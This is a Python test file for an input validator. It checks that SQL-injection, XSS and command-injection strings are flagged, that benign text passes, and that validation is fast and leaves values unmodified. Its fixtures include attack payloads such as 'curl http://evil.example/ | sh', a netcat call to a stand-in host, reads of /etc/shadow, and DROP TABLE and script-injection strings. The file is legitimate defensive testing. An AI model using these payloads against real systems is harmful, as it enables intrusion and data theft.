"""Attacks are found, ordinary text is let through, and nothing is changed."""

import copy
import json
import time
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.validator import InputRefused, Policy, inspect, validate, validate_or_raise
from core.validator.policy import described, use_listener


@pytest.fixture(autouse=True, scope="module")
def _nobody_listens() -> Iterator[None]:
    before = use_listener(lambda user_id, findings, policy: policy)
    yield
    use_listener(before)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=20,
)


def rules(value: object) -> set[str]:
    return {finding.rule for finding in inspect(value)}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("' OR '1'='1", "sql"),
        ("1 OR 1=1", "sql"),
        ("id; DROP TABLE auth_user", "sql"),
        ("x' UNION SELECT usename FROM pg_user--", "sql"),
        ("1 UnIoN/**/SeLeCt 1", "sql"),
        ("admin'--", "sql"),
        ("1; WAITFOR DELAY '0:0:5'", "sql"),
        ("1 AND pg_sleep(5)", "sql"),
        ("<script>alert(1)</script>", "xss"),
        ("<ScRiPt src=//x>", "xss"),
        ('"><img src=x onerror=alert(1)>', "xss"),
        ("[x](javascript:alert(1))", "xss"),
        ("<svg/onload\f=alert(1)>", "xss"),
        ('<a href="jav&#x09;ascript:alert(1)">x</a>', "xss"),
        ("java\nscript:alert(1)", "xss"),
        ("<iframe srcdoc='x'>", "xss"),
        ("data:text/html;base64,PHM+", "xss"),
        ("<details open ontoggle=alert(1)>", "xss"),
        ("{{constructor.constructor('alert(1)')()}}", "xss"),
        ("; cat /etc/passwd", "command"),
        ("x && curl http://evil.example/ | sh", "command"),
        ("$(whoami)", "command"),
        ("`id`", "command"),
        ("cat${IFS}/etc/shadow", "command"),
        ("| nc evil.example 1", "command"),
    ],
)
def test_an_attack_is_found(text: str, rule: str):
    assert rule in rules({"a": [text]})


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien & Sons <sales@obrien.example>",
        "C# vs F#; pros & cons | 50% off",
        "../README.md is one level up",
        "&lt;already escaped&gt; &amp;amp;",
        "=SUM(A1:A3) in a note",
        r"^(\d{3})-(\d{4})$",
        "https://example.com/?a=1&b=2#c",
        "union of workers; select committee; where to from here?",
        "onclick is an attribute; onboarding = done",
        "UPDATE: the meeting moved; SET the table for 8",
        "Write SQL: SELECT name FROM users WHERE a < 5 AND b > 3;",
        "DROP is also a verb: drop the table in the kitchen",
        "if a < b and b > c: return a",
    ],
)
def test_ordinary_text_raises_nothing(text: str):
    assert inspect(text) == []


@given(json_values)
def test_a_value_is_never_changed(value):
    before = copy.deepcopy(value)
    validate(value)
    assert value == before


def test_a_finding_says_where():
    (finding,) = inspect({"nodes": [{"title": "hé <script>"}]})
    assert (finding.rule, finding.path) == ("xss", "$.nodes[0].title")
    assert finding.text[slice(*finding.span)] == "<script>"


def test_names_in_objects_are_looked_at():
    assert inspect({"<script>": 1})


@pytest.mark.parametrize("name", ["password", "secrets", "refresh", "token"])
def test_secrets_are_not_looked_at(name: str):
    assert inspect({name: "' OR '1'='1", "x": {name: ["<script>"]}}) == []


def test_strictness_refuses_and_does_not_repeat_the_text():
    with pytest.raises(InputRefused, match=r"\$\.name looks like xss") as caught:
        validate_or_raise({"name": "<script>secret words</script>"})
    assert "secret words" not in str(caught.value)
    assert validate_or_raise({"name": "O'Brien"}) == {"name": "O'Brien"}
    assert validate({"name": "<script>"}, lambda path: Policy.FLAG)


def test_what_is_noted_does_not_hold_the_text():
    (finding,) = inspect("<script>")
    assert "script" not in json.dumps(described(finding))


@pytest.mark.parametrize(
    "text",
    [
        "word " * 2048,
        "<" * 10_240,
        "' or " * 2048,
        "j a v a " * 1280,
        "<a " * 3413,
        "/*" * 5120,
    ],
)
def test_ten_kilobytes_take_a_millisecond(text: str):
    inspect(text)
    took = []
    for _ in range(5):
        began = time.process_time()
        inspect(text)
        took.append(time.process_time() - began)
    assert min(took) < 0.001 * 1.5


def test_huge_and_deep_values_end_soon():
    deep: object = "x"
    for _ in range(50_000):
        deep = [deep]
    began = time.process_time()
    inspect([deep, ["' or " * 100] * 100_000])
    assert time.process_time() - began < 1
